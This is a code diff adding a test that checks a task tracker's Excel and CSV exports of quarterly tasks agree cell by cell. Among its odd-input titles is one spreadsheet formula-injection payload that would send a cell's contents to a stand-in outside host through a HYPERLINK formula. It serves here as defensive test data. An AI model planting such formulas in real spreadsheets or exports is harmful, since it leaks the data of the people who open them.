@@ -316,3 +316,49 @@ def test_every_dated_cell_holds_its_own_rows_date(client, login_as, demo, db):
     assert checked == db.session.scalar(db.select(db.func.count()).select_from(TaskUnit)
                                         .join(Task).where(Task.quarter_id == task.quarter_id,
                                                           TaskUnit.role == "participating"))
+
+
+def test_workbook_tasks_sheet_holds_what_the_csv_holds(client, login_as, demo, db):
+    """Two writers, one list: each task's row in report.xlsx, read back, equals its
+    row in tasks.csv, column by column (dates as dd/mm/yyyy, numbers as digits), with
+    texts that start a formula, end in spaces, or hold a carriage return or
+    something that looks like Excel's own escape."""
+    from tracker.exports import csv_text_in
+    from tracker.models import Task
+    from tracker.reports.imports import read_cells
+
+    q2 = db.session.scalar(db.select(Quarter).where(Quarter.year == 2023,
+                                                    Quarter.number == 2))
+    tasks = db.session.scalars(db.select(Task).where(Task.quarter_id == q2.id)
+                               .order_by(Task.id)).all()
+    odd = ['=HYPERLINK("http://x/?d="&A1,"x")', "  hai đầu có khoảng trắng  ",
+           "dòng một\r\ndòng hai\ttab", "x_x0041_y _x000D_", "#N/A", "-"]
+    for task, text in zip(tasks, odd):
+        task.title = text
+        task.result = text
+    db.session.commit()
+    login_as("viewer")
+    book = client.get("/quarters/2023-Q2/report.xlsx")
+    sheet = read_cells(book.data, "report.xlsx")  # the tasks sheet, as imports read it
+    listed = client.get("/quarters/2023-Q2/tasks.csv").get_data()
+    rows = list(csv.reader(io.StringIO(listed.decode("utf-8-sig"))))
+
+    def as_text(value):
+        if value is None:
+            return ""
+        if isinstance(value, (dt.datetime, dt.date)):
+            return value.strftime("%d/%m/%Y")
+        if isinstance(value, float) and value.is_integer():
+            return str(int(value))
+        return str(value)
+
+    width = len(rows[0])
+    assert list(sheet[0][:width]) == rows[0]
+    assert not any(value is not None for row in sheet for value in row[width:])
+    by_id = {row[0]: [csv_text_in(cell) for cell in row] for row in rows[1:]}
+    assert len(sheet) - 1 == len(by_id) == len(tasks) > len(odd)
+    for row in sheet[1:]:
+        values = [as_text(value) for value in row[:width]]
+        assert values == by_id[values[0]], values[0]
+    titles = {row[2] for row in sheet[1:]}
+    assert set(odd) <= titles
